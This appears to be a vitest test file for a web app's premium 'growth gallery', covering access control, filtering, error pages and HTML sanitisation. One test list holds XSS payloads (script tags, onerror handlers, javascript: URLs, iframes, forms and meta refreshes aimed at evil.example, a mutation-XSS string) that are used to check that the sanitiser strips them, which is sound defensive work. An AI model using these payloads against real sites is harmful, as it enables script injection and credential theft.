import { describe, expect, test } from "vitest";
import { startingContent } from "#server/adapters/database/schema.ts";
import { fillStrategies } from "#server/features/guides/strategies/starting-strategies.ts";
import { startingStrategies } from "#seeds/strategies/index.ts";
import { freshTables, testApp } from "../../support/test-app.ts";
import { toolMember } from "../tools/member.ts";
import { aStrategy, pathOf } from "./strategies.ts";

const database = await freshTables();

describe("the gallery's page", () => {
  test("sends cards, not playbooks; an opened one comes whole", async () => {
    const app = testApp(database);
    const member = await toolMember(app);
    await fillStrategies(database, startingStrategies, app.clock.now());
    const html = await (await member.raw("/growth-gallery")).text();
    expect(html.length).toBeLessThan(65_000);
    expect(html.replaceAll("<!-- -->", "")).toContain("30 strategies in 10 categories");
    expect(html.replaceAll("<!-- -->", "")).toContain("+5 more");
    expect(html.match(/role="tab"/g)).toHaveLength(11);
    expect(html).not.toContain("When it does not");
    const opened = await member.raw("/growth-gallery/3");
    expect(opened.status).toBe(200);
    const whole = await opened.text();
    expect(whole.length).toBeLessThan(80_000);
    for (const words of ["When it does not", "Implementation Steps", "<dialog", "<title>"])
      expect(whole).toContain(words);
  });

  test("says so when the strategy in the address is not there, and shows the others", async () => {
    const app = testApp(database);
    const member = await toolMember(app);
    const gone = await aStrategy(app, { isActive: false });
    await aStrategy(app, { title: "Still here" });
    for (const id of [String(gone.id), "999999", "abc", "1e3", "-1"]) {
      const response = await member.raw(`/growth-gallery/${id}`);
      const html = await response.text();
      expect([id, response.status]).toEqual([id, 404]);
      expect(html).toContain("That strategy is not in the gallery");
      expect(html).toContain("Still here");
    }
  });

  test("shows what its address asks for, each address its own", async () => {
    const app = testApp(database);
    const member = await toolMember(app);
    const { id } = await aStrategy(app, { title: "Aboutmoney", category: "Pricing" });
    await aStrategy(app, { title: "Aboutpeople", content: "<p>Kingfisher</p>" });
    await member.send("PUT", `${pathOf(id)}/favourite`, { isFavourite: true });
    for (const [address, shown, isNotShown] of [
      ["?category=Pricing", "Aboutmoney", "Aboutpeople"],
      ["?category=LinkedIn", "Aboutpeople", "Aboutmoney"],
      ["?search=kingfisher", "Aboutpeople", "Aboutmoney"],
      ["?favourites=true", "Aboutmoney", "Aboutpeople"],
    ] as const) {
      const panel = (await (await member.raw(`/growth-gallery${address}`)).text())
        .split('role="tabpanel"')[1]
        ?.split("</main>")[0];
      expect(panel, address).toContain(shown);
      expect(panel, address).not.toContain(isNotShown);
    }
    const odd = await (await member.raw("/growth-gallery?category=Nonsense")).text();
    expect(odd).toContain("Aboutmoney");
  });

  test("with nothing in it says so", async () => {
    const member = await toolMember(testApp(database));
    const response = await member.raw("/growth-gallery");
    expect(response.status).toBe(200);
    expect(await response.text()).toContain("No growth strategies available yet");
  });

  test("gives nothing of a playbook to visitors and free members", async () => {
    const app = testApp(database);
    const { id } = await aStrategy(app, { title: "Canarytitle", content: "<p>Canarytext</p>" });
    const free = await app.as(await app.build.user());
    const late = await app.as(
      await app.build.user({ premiumUntil: new Date(app.clock.now().getTime() - 1_000) }),
    );
    for (const send of [app.request, free, late])
      for (const path of [
        "/growth-gallery",
        `/growth-gallery/${id}`,
        "/growth-gallery?search=canarytext",
        "/api/premium/growth-strategies",
        pathOf(id),
        "/api/premium/growth-cards",
        "/api/premium/growth-progress",
      ]) {
        const response = await send(path);
        expect(await response.text(), path).not.toContain("Canary");
        if (path.startsWith("/api/")) expect([401, 403]).toContain(response.status);
      }
  });
});

describe("what was written as HTML", () => {
  const hostile = [
    `<script>alert("canary")</script>`,
    `<img src=x onerror="canary()">`,
    `<p onclick="canary()" style="color:red" class="dialog" id="root">text</p>`,
    `<a href="javascript:canary()">link</a>`,
    `<a href="data:text/html,canary">link</a>`,
    `<a href="//evil.example/canary">link</a>`,
    `<iframe src="https://evil.example/canary"></iframe>`,
    `<svg><script>canary()</script></svg>`,
    `<form action="https://evil.example/canary"><input name="password"></form>`,
    `<style>@import url(https://evil.example/canary)</style>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=canary()>`,
    `<pre><script>canary()</script>Template</pre>`,
    `<base href="https://evil.example/canary">`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/canary">`,
  ];

  test.each(hostile)("%s is stored and shown without its teeth", async (content) => {
    const app = testApp(database);
    const member = await toolMember(app);
    const { id, content: stored } = await aStrategy(app, { content });
    expect(stored).not.toMatch(
      /<(?:script|img|iframe|svg|form|input|style|math|base|meta)|on\w+=|javascript:|data:|evil\.example|style=|class=|id=/i,
    );
    const page = await (await member.raw(`/growth-gallery/${id}`)).text();
    expect(page).not.toContain("canary()");
    expect(page).not.toContain("evil.example");
  });

  test("keeps its headings, lists, links and templates", async () => {
    const app = testApp(database);
    const content =
      '<h2>Why</h2><p><b>So</b> <i>it</i></p><ul><li>one</li></ul><a href="https://sars.gov.za/">SARS</a><pre>Hi &lt;you&gt;</pre>';
    expect((await aStrategy(app, { content })).content).toBe(
      '<h2>Why</h2><p><strong>So</strong> <em>it</em></p><ul><li>one</li></ul><a href="https://sars.gov.za/" target="_blank" rel="noopener noreferrer">SARS</a><pre>Hi &lt;you&gt;</pre>',
    );
  });
});

describe("the starting content", () => {
  test("is given once: what an admin changed or deleted stays so, and what is new comes along", async () => {
    const app = testApp(database);
    const member = await toolMember(app);
    const [one, two, three] = startingStrategies;
    if (one === undefined || two === undefined || three === undefined)
      throw new Error("Too few to tell");
    const now = app.clock.now();
    const titles = async () =>
      ((await (await member.raw("/api/premium/growth-strategies")).json()) as { title: string }[])
        .map(({ title }) => title)
        .toSorted();
    await Promise.all([1, 2].map(() => fillStrategies(database, [one, two], now)));
    expect(await titles()).toEqual([one.title, two.title].toSorted());
    await database.executeSql("delete from growth_strategies where title = $1", [one.title]);
    await database.executeSql("update growth_strategies set title = 'Ours now'");
    await fillStrategies(database, [one, two, three], now);
    expect(await titles()).toEqual(["Ours now", three.title].toSorted());
    expect(await database.queries.select().from(startingContent)).toHaveLength(3);
  });
});
